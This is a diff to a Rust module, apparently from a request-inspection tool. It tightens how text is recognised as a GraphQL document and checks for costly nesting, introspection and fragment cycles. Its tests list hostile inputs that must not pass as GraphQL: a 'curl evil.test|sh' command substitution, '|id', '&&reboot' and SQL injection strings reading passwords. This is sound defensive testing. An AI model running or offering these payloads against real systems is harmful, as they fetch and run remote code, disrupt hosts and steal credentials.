@@ -1,56 +1,148 @@
 //! The texts of a GraphQL document, without building it.
 //!
-//! A document is told from other text by its first word and by holding nothing but GraphQL's tokens; then its strings are
-//! values, and braces, quotes and dollar signs between them are syntax and no attack.
+//! A document is told from other text by GraphQL's grammar; then its strings are values, and braces, quotes and dollar signs
+//! between them are syntax and no attack.
 
-use crate::bytes::{at, between, find, from, is_space, is_word, starts};
+use crate::bytes::{at, between, find, from, is_word, skip_space, starts, word_end};
 use crate::finding::{Family, Finding};
 use crate::inspector::Flow;
 
 /// Takes an argument's name and its text.
 pub(crate) type Each<'e> = dyn FnMut(&[u8], &[u8]) -> Flow + 'e;
 
-/// Whether the text is a document, as far as its tokens tell: it begins with an operation or a selection, brackets close,
-/// and between strings there is nothing that GraphQL has not.
+/// Whether the text is a document that a server would execute (GraphQL, October 2021, 2.1 to 2.9), as far as tokens and their
+/// places tell: operations and fragments one behind the other, of selections, whose arguments alone hold values. What is
+/// taken for one is inspected for less, so that in doubt a text is none. Definitions of types are none.
 pub(crate) fn is_document(text: &[u8]) -> bool {
-    let head = text.trim_ascii_start();
-    let operation = [&b"query"[..], b"mutation", b"subscription", b"fragment"]
-        .iter()
-        .any(|word| starts(head, word) && !is_word(at(head, word.len())));
-    let selection = at(head, 0) == b'{'
-        && from(head, 1).trim_ascii_start().first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
-    if !operation && !selection {
-        return false;
-    }
-    let (mut depth, mut deepest, mut index) = (0_i64, 0, 0);
+    let mut reader = Reader::default();
+    let mut index = 0;
     while index < text.len() {
-        match at(text, index) {
-            b'"' => {
-                let (_, next, closed) = string(text, index);
-                if !closed {
-                    return false;
-                }
-                index = next;
-                continue;
-            }
-            b'#' => {
-                index += from(text, index).iter().position(|b| *b == b'\n').unwrap_or(text.len());
-                continue;
-            }
-            b':' if at(text, index + 1) == b':' => return false,
-            b'{' | b'(' | b'[' => depth += 1,
-            b'}' | b')' | b']' => depth -= 1,
-            b'!' | b'$' | b'&' | b'.' | b':' | b'=' | b'@' | b'|' | b',' | b'-' | b'+' => {}
-            byte if is_word(byte) && byte < 0x80 || is_space(byte) => {}
-            _ => return false,
+        match reader.token(text, index) {
+            Some(next) => index = next,
+            None => return false,
         }
-        deepest = deepest.max(depth);
-        if depth < 0 {
-            return false;
-        }
-        index += 1;
     }
-    depth == 0 && deepest > 0
+    reader.whole && reader.depth == 0 && reader.inside == 0 && reader.words == 0
+}
+
+/// Where in a document a token stands.
+#[derive(Default)]
+struct Reader {
+    /// Selections within selections.
+    depth: u32,
+    /// Brackets of any kind within arguments and definitions of variables.
+    inside: u32,
+    /// Words of a definition before its selection, and how many it may have.
+    words: u32,
+    most: u32,
+    /// The token before is a name, or opens a selection.
+    named: bool,
+    opened: bool,
+    /// A definition is complete.
+    whole: bool,
+}
+
+impl Reader {
+    /// Where the token that stands there ends; `None` for what stands in no document there.
+    fn token(&mut self, text: &[u8], index: usize) -> Option<usize> {
+        let byte = at(text, index);
+        let (named, opened) = (std::mem::take(&mut self.named), std::mem::take(&mut self.opened));
+        let begins_name = is_name(at(text, index + 1));
+        let valued = self.inside > 0;
+        match byte {
+            b' ' | b'\t' | b'\r' | b'\n' | b',' => {
+                (self.named, self.opened) = (named, opened);
+            }
+            b'#' => return Some(index + line(text, index)),
+            b'"' if valued => {
+                let (_, next, closed) = string(text, index);
+                return closed.then_some(next);
+            }
+            b'{' | b'[' if valued => self.inside += 1,
+            b'}' | b']' | b')' if valued => self.inside -= 1,
+            b'{' => (self.depth, self.opened) = (self.depth + 1, true),
+            b'}' if self.depth > 0 && !opened => {
+                self.depth -= 1;
+                if self.depth == 0 {
+                    (self.words, self.whole) = (0, true);
+                }
+            }
+            // The first argument has a name, or a variable its type.
+            b'(' if named => {
+                let start = skip_space(text, index + 1);
+                let end = word_end(text, start + usize::from(at(text, start) == b'$'));
+                if end == start || at(text, skip_space(text, end)) != b':' {
+                    return None;
+                }
+                self.inside += 1;
+            }
+            b'.' if self.depth > 0 && !valued && starts(from(text, index), b"...") => {
+                return Some(index + 3);
+            }
+            b':' if named && at(text, index + 1) != b':' => {}
+            b'!' | b'=' if valued => {}
+            b'$' if valued && begins_name => {
+                self.named = true;
+                return Some(word_end(text, index + 1));
+            }
+            b'@' if begins_name => {
+                self.named = true;
+                return Some(word_end(text, index + 1));
+            }
+            b'-' | b'0'..=b'9' if valued => return number(text, index),
+            byte if is_name(byte) => {
+                let end = word_end(text, index);
+                let name = between(text, index, end);
+                if !name.is_ascii() || self.depth == 0 && !valued && !self.heads(name) {
+                    return None;
+                }
+                self.named = true;
+                return Some(end);
+            }
+            _ => return None,
+        }
+        Some(index + 1)
+    }
+
+    /// A word outside selections: what is defined, its name, and what a fragment is on.
+    fn heads(&mut self, word: &[u8]) -> bool {
+        if self.words == 0 {
+            self.most = match word {
+                b"query" | b"mutation" | b"subscription" => 2,
+                b"fragment" => 4,
+                _ => 0,
+            };
+        }
+        self.words += 1;
+        self.words <= self.most
+    }
+}
+
+const fn is_name(byte: u8) -> bool {
+    byte.is_ascii_alphabetic() || byte == b'_'
+}
+
+/// The bytes up to the line's end.
+fn line(text: &[u8], index: usize) -> usize {
+    let rest = from(text, index);
+    rest.iter().position(|b| *b == b'\n').unwrap_or(rest.len())
+}
+
+/// Where a number ends (2.9.1, 2.9.2).
+fn number(text: &[u8], start: usize) -> Option<usize> {
+    let digits = |start: usize| start + from(text, start).iter().take_while(|b| b.is_ascii_digit()).count();
+    let first = start + usize::from(at(text, start) == b'-');
+    let mut end = digits(first);
+    if end == first {
+        return None;
+    }
+    if at(text, end) == b'.' {
+        end = digits(end + 1);
+    }
+    if matches!(at(text, end), b'e' | b'E') {
+        end = digits(end + 1 + usize::from(matches!(at(text, end + 1), b'+' | b'-')));
+    }
+    (!is_name(at(text, end)) && at(text, end) != b'.').then_some(end)
 }
 
 /// Selections within selections, beyond which a document is made to cost: what applications ask for is a third as deep.
@@ -68,7 +160,7 @@ pub(crate) fn excess(text: &[u8]) -> Option<Finding> {
                 index = string(text, index).1;
                 continue;
             }
-            b'#' => index += from(text, index).iter().position(|b| *b == b'\n').unwrap_or(text.len()),
+            b'#' => index += line(text, index),
             b'(' | b'[' => inside += 1,
             b')' | b']' => inside = inside.saturating_sub(1),
             b'{' if inside == 0 => {
@@ -79,8 +171,8 @@ pub(crate) fn excess(text: &[u8]) -> Option<Finding> {
             }
             b'}' if inside == 0 => depth = depth.saturating_sub(1),
             byte if is_word(byte) => {
-                let end = crate::bytes::word_end(text, index);
-                let next = at(text, crate::bytes::skip_space(text, end));
+                let end = word_end(text, index);
+                let next = at(text, skip_space(text, end));
                 let field = depth > 0 && inside == 0;
                 let name = between(text, index, end);
                 if field && (name == b"__schema" && next == b'{' || name == b"__type" && next == b'(') {
@@ -124,7 +216,7 @@ pub(crate) fn cycle(text: &[u8]) -> Option<Finding> {
                 index = string(text, index).1;
                 continue;
             }
-            b'#' => index += from(text, index).iter().position(|b| *b == b'\n').unwrap_or(text.len()),
+            b'#' => index += line(text, index),
             b'{' => depth += 1,
             b'}' => depth = depth.saturating_sub(1),
             b'.' if starts(from(text, index), b"...") => {
@@ -138,7 +230,7 @@ pub(crate) fn cycle(text: &[u8]) -> Option<Finding> {
                 index += 2;
             }
             byte if is_word(byte) => {
-                let end = crate::bytes::word_end(text, index);
+                let end = word_end(text, index);
                 if depth == 0 {
                     let begins = between(text, index, end) == b"fragment";
                     inside = if begins { number(word(text, end)) } else { inside };
@@ -162,8 +254,8 @@ pub(crate) fn cycle(text: &[u8]) -> Option<Finding> {
 
 /// The word that stands there, behind white space.
 fn word(text: &[u8], index: usize) -> &[u8] {
-    let start = crate::bytes::skip_space(text, index);
-    between(text, start, crate::bytes::word_end(text, start))
+    let start = skip_space(text, index);
+    between(text, start, word_end(text, start))
 }
 
 /// Calls `each` with every string, under the name of the argument or field that it belongs to.
@@ -177,12 +269,12 @@ pub(crate) fn walk(text: &[u8], each: &mut Each<'_>) -> Flow {
             each(name, inside)?;
             index = next;
         } else if byte == b'#' {
-            let length = from(text, index).iter().position(|b| *b == b'\n').unwrap_or(text.len());
+            let length = line(text, index);
             each(b"", between(text, index, index + length))?;
             index += length;
         } else if is_word(byte) {
-            let end = crate::bytes::word_end(text, index);
-            if at(text, crate::bytes::skip_space(text, end)) == b':' {
+            let end = word_end(text, index);
+            if at(text, skip_space(text, end)) == b':' {
                 name = between(text, index, end);
             }
             index = end;
@@ -274,9 +366,30 @@ mod tests {
             "function() {a}",
             "{}",
             "{ a } }",
+            // Braces in front of a payload make it no question.
+            "{x}$(curl evil.test|sh){y}",
+            "{x}|id",
+            "{x}&&reboot",
+            "{a}\" or \"1\"=\"1",
+            "{x} union select password from users {y}",
+            "query union select password from users {x}",
+            "{x(sleep(5))}",
+            "{x(a: $(id))}",
+            "{x.y}",
+            "{x: 1}",
+            "{a} query",
+            "type A { b: C }",
         ] {
             assert!(!is_document(other.as_bytes()), "{other}");
         }
-        assert!(is_document(b"{ a b { c } }") && is_document(b"mutation { x(y: [1, -2.5]) { z } } # end\n"));
+        for document in [
+            "{ a b { c } }",
+            "mutation { x(y: [1, -2.5e+3]) { z } } # end\n",
+            "query Q($id: ID! = 7, $in: [In!]! = [{a: \"b\"}]) @live { user(id: $id, in: $in) @include(if: $x) { n: name } }",
+            "query A { a } query B { b { ...F ... on T @skip(if: true) { c } ... { d } } } fragment F on U { id }",
+            "subscription S{a(b:ENUM,c:null,d:\"\"\"x\"\"\"){e}}",
+        ] {
+            assert!(is_document(document.as_bytes()), "{document}");
+        }
     }
 }
